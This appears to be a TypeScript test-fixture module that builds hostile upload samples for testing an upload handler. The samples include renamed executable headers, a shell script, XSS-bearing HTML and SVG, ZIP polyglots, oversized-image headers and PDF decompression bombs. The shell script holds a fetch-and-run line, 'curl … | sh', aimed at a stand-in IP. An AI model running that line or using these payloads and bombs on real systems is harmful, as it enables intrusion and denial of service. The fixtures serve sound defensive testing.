import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { createDeflate } from 'node:zlib';
import sharp from 'sharp';

/** Files an attacker uploads, made here rather than kept as binaries (see also documents/testing/files.ts). */

/** Programs and scripts: their first bytes, as a renamed one would start. */
export const executables = {
  'Windows PE': () => Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), randomBytes(256)]),
  ELF: () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(256)]),
  'Mach-O': () => Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), randomBytes(256)]),
  'shell script': () => Buffer.from('#!/bin/sh\ncurl http://203.0.113.1/x | sh\n'),
} as const;

/** Markup a browser would run if it were ever served as a page. */
export const markup = {
  HTML: () => Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'),
  SVG: () =>
    Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
    ),
} as const;

/** A ZIP archive holding one stored file (enough for any unzip tool to find it at the end of another file). */
export function zipArchive(name = 'payload.exe', content = Buffer.from('MZ payload')): Buffer {
  const fileName = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(local.length + fileName.length + content.length, 16);
  return Buffer.concat([local, fileName, content, central, fileName, end]);
}

/** The ZIP local file header signature, which must not survive in a stored image. */
export const ZIP_SIGNATURE = Buffer.from([0x50, 0x4b, 0x03, 0x04]);

/** A JPEG whose frame header claims width x height pixels while the file stays a few hundred bytes. */
export async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#884422' } })
    .jpeg()
    .toBuffer();
  // The baseline frame header: FF C0, length, precision, then height and width.
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error('no baseline frame header');
  jpeg.writeUInt16BE(height, sof + 5);
  jpeg.writeUInt16BE(width, sof + 7);
  return jpeg;
}

/** A PNG whose header claims width x height pixels, with the pixels of a 16x16 picture. */
export async function pngClaiming(width: number, height: number): Promise<Buffer> {
  const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#224488' } })
    .png()
    .toBuffer();
  // IHDR's data starts after the 8-byte signature and the chunk's length and type; its CRC is left stale on
  // purpose (a reader that ignores it must still refuse the size).
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  return png;
}

/** A one-page PDF written by hand from its objects (dictionaries or streams), with a correct cross-reference table. */
export function handWrittenPdf(objects: (string | Buffer)[]): Buffer {
  const parts = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0].length;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(length);
    const body = Buffer.isBuffer(object) ? object : Buffer.from(object, 'latin1');
    const part = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
    parts.push(part);
    length += part.length;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}` +
        `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`,
      'latin1',
    ),
  );
  return Buffer.concat(parts);
}

/** `megabytes` MiB of spaces, deflated chunk by chunk (never held inflated in memory). */
async function deflatedSpaces(megabytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (data: Buffer) => parts.push(data));
  const finished = once(deflate, 'end');
  const chunk = Buffer.alloc(1024 * 1024, 0x20);
  for (let i = 0; i < megabytes; i += 1) if (!deflate.write(chunk)) await once(deflate, 'drain');
  deflate.end();
  await finished;
  return Buffer.concat(parts);
}

/**
 * A PDF decompression bomb: a page and one Flate stream of `megabytes` MiB of spaces (about a thousandth of that
 * on disk), either the page's contents or an object stream (which a parser inflates to read the objects in it).
 */
export async function pdfStreamBomb(megabytes: number, as: 'contents' | 'object stream'): Promise<Buffer> {
  const data = await deflatedSpaces(megabytes);
  const dictionary = as === 'contents' ? '' : '/Type /ObjStm /N 1 /First 4 ';
  const stream = Buffer.concat([
    Buffer.from(`<< ${dictionary}/Filter /FlateDecode /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ]);
  return handWrittenPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200]${as === 'contents' ? ' /Contents 4 0 R' : ''} >>`,
    stream,
  ]);
}
